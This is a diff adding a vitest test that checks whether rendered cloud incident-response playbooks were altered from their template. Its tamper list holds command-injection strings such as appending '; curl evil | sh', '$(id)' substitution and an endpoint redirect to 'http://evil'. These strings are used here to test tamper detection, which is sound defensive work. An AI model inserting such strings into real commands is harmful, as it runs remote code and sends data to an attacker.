@@ -3,6 +3,7 @@ import { join } from 'node:path'
 import { describe, expect, test } from 'vitest'
 import { bindQuery, planSql } from '../../src/query/index.ts'
 import { loadRules } from '../../src/rules/load.ts'
+import { isFilledFrom } from '../../src/rules/playbook-form.ts'
 import { withPlaybooks } from '../../src/rules/playbook-load.ts'
 import { playbookFields, playbookValues, renderPlaybook } from '../../src/rules/playbook-render.ts'
 import { refKey } from '../../src/rules/template.ts'
@@ -64,5 +65,70 @@ describe.each(PACK)('$file', { timeout: 60_000 }, ({ rule }) => {
     for (const word of WORDS)
       for (const [i, query] of queries(word).entries())
         expect([word, codeDifference(code(query), harmless[i] ?? [])]).toEqual([word, undefined])
+  })
+
+  test('tells commands and queries that were filled in from others', () => {
+    const playbook = rule?.playbook
+    if (playbook === undefined) throw new Error('no playbook')
+    const lists = ['dohyo_resources', 'dohyo_sharedExternal', 'dohyo_sharedWith', 'dohyo_snapshotKeys']
+    for (const word of [...WORDS, 'harmless'])
+      for (const cloud of playbook.clouds) {
+        const given = playbookFields(playbook).map((ref) => {
+          const key = refKey(ref)
+          return [key, lists.includes(key) ? [word, `${word}2`, 'x'] : word] as const
+        })
+        const filled = renderPlaybook(
+          playbook,
+          cloud,
+          playbookValues({ ...Object.fromEntries(given), dohyo_operation: null }, MOMENT),
+        )
+        expect([word, isFilledFrom(playbook, cloud, filled)]).toEqual([word, true])
+        const changed = (change: (text: string) => string) => [
+          ...filled.questions.flatMap(({ command, query }, i) => [
+            ...(command === undefined
+              ? []
+              : [
+                  {
+                    ...filled,
+                    questions: filled.questions.with(i, {
+                      ask: '',
+                      attack: '',
+                      benign: '',
+                      command: change(command),
+                    }),
+                  },
+                ]),
+            ...(query === undefined
+              ? []
+              : [
+                  {
+                    ...filled,
+                    questions: filled.questions.with(i, {
+                      ask: '',
+                      attack: '',
+                      benign: '',
+                      query: change(query),
+                    }),
+                  },
+                ]),
+          ]),
+          ...filled.contain.flatMap(({ command }, i) =>
+            command === undefined
+              ? []
+              : [{ ...filled, contain: filled.contain.with(i, { what: '', command: change(command) }) }],
+          ),
+        ]
+        const TAMPERED: readonly ((text: string) => string)[] = [
+          (text) => `${text}; curl evil | sh`,
+          (text) => `${text}\ncurl evil`,
+          (text) => `curl evil\n${text}`,
+          (text) => `${text} | save evil`,
+          (text) => `${text} '$(id)' `,
+          (text) => text.replace(/^(\S+)/, '$1 --endpoint-url=http://evil'),
+          () => 'curl evil',
+        ]
+        for (const tamper of TAMPERED)
+          for (const one of changed(tamper)) expect(isFilledFrom(playbook, cloud, one)).toBe(false)
+      }
   })
 })
